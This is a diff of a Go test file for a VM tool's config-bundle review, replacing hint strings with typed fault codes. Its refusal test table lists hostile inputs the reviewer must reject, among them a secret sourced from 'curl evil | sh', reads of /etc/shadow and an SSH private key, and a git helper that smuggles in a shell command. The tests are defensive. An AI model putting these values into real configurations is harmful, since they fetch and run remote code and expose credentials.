@@ -9,7 +9,7 @@ import (
 	"github.com/pelletier/go-toml/v2"
 
 	"github.com/mayfly-vm/mayfly/internal/config"
-	"github.com/mayfly-vm/mayfly/internal/hint"
+	"github.com/mayfly-vm/mayfly/internal/fault"
 )
 
 const everything = `version = 1
@@ -56,8 +56,8 @@ func write(changes []Change) string {
 	var b strings.Builder
 	for _, c := range changes {
 		fmt.Fprintf(&b, "%s %s %s: %s", c.Kind, c.In, c.Key, c.Text)
-		if c.Hint != "" {
-			fmt.Fprintf(&b, " (%s)", c.Hint)
+		if c.Code != "" {
+			fmt.Fprintf(&b, " (%s)", c.Code)
 		}
 		b.WriteByte('\n')
 	}
@@ -126,23 +126,26 @@ widen machine web workspace.path: works on the directory "~/src/web"
 }
 
 func TestReviewRefuses(t *testing.T) {
-	tests := []struct{ name, text, want, hint string }{
-		{"a host's path", "workspace.path = \"/home/bob/x\"", `"/home/bob/x" is a path of another computer`, "--map /home/bob/x=DIRECTORY"},
+	tests := []struct {
+		name, text, want string
+		code             fault.Code
+	}{
+		{"a host's path", "workspace.path = \"/home/bob/x\"", `"/home/bob/x" is a path of another computer`, fault.BundlePathForeign},
 		{"the root", "share = [{ source = \"/\" }]", `"/" is all of it`, ""},
 		{"home", "workspace.path = \"~\"", `"~" is all of it`, ""},
 		{"home with a slash", "workspace.path = \"~//\"", `is all of it`, ""},
 		{"home with a dot", "workspace.path = \"~/.\"", `is all of it`, ""},
 		{"upwards", "workspace.path = \"~/src/../.ssh\"", "leads upwards", ""},
 		{"relative upwards", "workspace.path = \"../x\"", "leads upwards", ""},
-		{"relative", "workspace.path = \"x\"", `is relative`, "--base DIRECTORY"},
-		{"hidden", "[[share]]\nsource = \"~/.ssh\"", `"~/.ssh" is hidden`, "--map ~/.ssh=~/.ssh if you want that"},
+		{"relative", "workspace.path = \"x\"", `is relative`, fault.BundlePathRelative},
+		{"hidden", "[[share]]\nsource = \"~/.ssh\"", `"~/.ssh" is hidden`, fault.BundlePathHidden},
 		{"another's home", "workspace.path = \"~bob/x\"", "is another user's", ""},
-		{"dotfiles", "home.dotfiles = [\"/etc\"]", `"/etc" is a path of another computer`, ""},
+		{"dotfiles", "home.dotfiles = [\"/etc\"]", `"/etc" is a path of another computer`, fault.BundlePathForeign},
 		{"dotfiles by a helper", "home.dotfiles = [\"ext::sh -c id@x\"]", "only repositories of https:// and ssh://", ""},
 		{"dotfiles of a file", "home.dotfiles = [\"file:///etc\"]", "only repositories of https:// and ssh://", ""},
-		{"a command", "secrets.X = { from = \"cmd:curl evil | sh\", hosts = [\"a.example\"] }", `a command for this computer: "curl evil | sh"`, "config.toml"},
-		{"a secret's file", "secrets.X = { from = \"file:/etc/shadow\", hosts = [\"a.example\"] }", `"/etc/shadow" is a path of another computer`, ""},
-		{"a secret's key", "secrets.X = { from = \"file:~/.ssh/id_ed25519\", hosts = [\"a.example\"] }", "is hidden", ""},
+		{"a command", "secrets.X = { from = \"cmd:curl evil | sh\", hosts = [\"a.example\"] }", `a command for this computer: "curl evil | sh"`, fault.BundleSecretCommand},
+		{"a secret's file", "secrets.X = { from = \"file:/etc/shadow\", hosts = [\"a.example\"] }", `"/etc/shadow" is a path of another computer`, fault.BundlePathForeign},
+		{"a secret's key", "secrets.X = { from = \"file:~/.ssh/id_ed25519\", hosts = [\"a.example\"] }", "is hidden", fault.BundlePathHidden},
 		{"a secret of another file", "secrets.X = { hosts = [\"a.example\"] }", `would send a value of your own configuration to ["a.example"]`, ""},
 		{"a secret to another file's hosts", "secrets.X = { from = \"env:TOKEN\" }", `does not say to which hosts the value of your variable "TOKEN" goes`, ""},
 		{"a secret to no hosts", "secrets.X = { from = \"env:TOKEN\", hosts = [] }", `does not say to which hosts`, ""},
@@ -167,8 +170,8 @@ func TestReviewRefuses(t *testing.T) {
 		t.Run(tt.name, func(t *testing.T) {
 			plan := Review(Bundle{Machines: []File{{"web", []byte("version = 1\n" + tt.text + "\n")}}}, have, Placement{})
 			err := plan.Err()
-			if err == nil || !strings.Contains(err.Error(), tt.want) || !strings.Contains(hint.Of(err), tt.hint) {
-				t.Errorf("Review: %v, hint %q; want %q, %q", err, hint.Of(err), tt.want, tt.hint)
+			if err == nil || !strings.Contains(err.Error(), tt.want) || fault.CodeOf(err) != tt.code {
+				t.Errorf("Review: %v, %q; want %q, %q", err, fault.CodeOf(err), tt.want, tt.code)
 			}
 			if strings.Contains(write(plan.Changes), "sk-ant") {
 				t.Errorf("Review repeats a secret's value:\n%s", write(plan.Changes))
@@ -184,12 +187,12 @@ func TestReviewConflicts(t *testing.T) {
 		Profiles: map[string][]byte{"work": []byte("version = 1\n# another\n")},
 	}
 	b := Bundle{Machines: []File{{"web", file}}, Profiles: []File{{"claude", file}, {"work", file}}}
-	want := `refuse profile claude : it would hide mayfly's own profile claude, for all machines (give the profile another name, and export again)
+	want := `refuse profile claude : it would hide mayfly's own profile claude, for all machines (bundle-profile-reserved)
 add profile work : a profile of your own, 12 bytes
-refuse profile work : there is another profile of that name, which your machines may use (rename one of the two)
+refuse profile work : there is another profile of that name, which your machines may use (bundle-profile-differs)
 add machine web : a machine, 12 bytes
 widen machine web network.egress: is not set: unless a profile says otherwise, reaches all of the public internet
-refuse machine web : there is another machine of that name (mayfly inspect web)
+refuse machine web : there is another machine of that name (bundle-machine-differs)
 `
 	if d := cmp.Diff(want, write(Review(b, have, Placement{}).Changes)); d != "" {
 		t.Errorf("Review: (-want +got)\n%s", d)
